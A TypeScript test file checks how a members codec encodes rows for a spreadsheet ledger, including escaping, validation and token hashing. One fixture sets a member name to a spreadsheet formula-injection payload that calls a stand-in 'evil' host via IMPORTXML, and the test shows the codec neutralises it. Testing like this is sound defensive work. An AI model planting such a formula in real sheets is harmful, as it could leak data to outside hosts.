import { describe, expect, it } from 'vitest';
import { hashToken } from '../../../shared/ledger/hash-token.ts';
import {
  decodeMemberRow,
  encodeMemberRow,
  findMemberByTokenHash,
  MEMBERS_HEADER,
  type MemberRecord,
} from '../../../shared/ledger/members-codec.ts';
import { sha256 } from './events/digest.ts';

const record: MemberRecord = {
  id: 'member-7',
  name: '=IMPORTXML("http://evil")',
  org: '+Open North',
  side: 'csn',
  roles: ['attendee', 'csn_signatory'],
  tokenHash: hashToken('s3cret-token', sha256),
  issuedAt: '2026-01-02T10:00:00.000Z',
};

describe('Members codec', () => {
  it('has the columns the coordinator keeps', () => {
    expect(MEMBERS_HEADER).toEqual(['v', 'id', 'name', 'org', 'side', 'roles', 'tokenHash', 'issuedAt', 'revokedAt']);
  });

  it('writes names that look like formulas as text and reads them back', () => {
    const row = encodeMemberRow(record);
    expect(row).toEqual([
      '1', 'member-7', '\'=IMPORTXML("http://evil")', "'+Open North", 'csn', 'attendee, csn_signatory', record.tokenHash,
      '2026-01-02T10:00:00.000Z', '',
    ]);
    expect(decodeMemberRow(row)).toEqual({ ok: true, value: record });
  });

  it('round-trips a revoked member', () => {
    const revoked = { ...record, revokedAt: '2026-02-01T09:00:00.000Z' };
    expect(decodeMemberRow(encodeMemberRow(revoked))).toEqual({ ok: true, value: revoked });
  });

  it.each([
    ['an unknown role', 5, 'attendee, chair', 'roles'],
    ['an unknown side', 4, 'press', 'side'],
    ['an empty name', 2, '', 'name'],
    ['a token hash that is not a hash', 6, 'abc', 'tokenHash'],
    ['an issue time that is not a time', 7, 'last week', 'issuedAt'],
  ])('refuses a row with %s and names the column', (_name, column, value, path) => {
    const row = encodeMemberRow(record);
    row[column] = value;
    const result = decodeMemberRow(row);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]!.path).toBe(path);
  });

  it('hashes tokens so the sheet never holds one, and finds only active members by it', () => {
    const hash = hashToken('s3cret-token', sha256);
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
    expect(hash).not.toBe(sha256('s3cret-token'));
    expect(encodeMemberRow(record).join('|')).not.toContain('s3cret-token');
    const revoked = { ...record, id: 'member-8', revokedAt: '2026-02-01T09:00:00.000Z' };
    expect(findMemberByTokenHash([revoked, record], hash)?.id).toBe('member-7');
    expect(findMemberByTokenHash([revoked], hash)).toBeUndefined();
    expect(findMemberByTokenHash([record], hashToken('other', sha256))).toBeUndefined();
  });
});
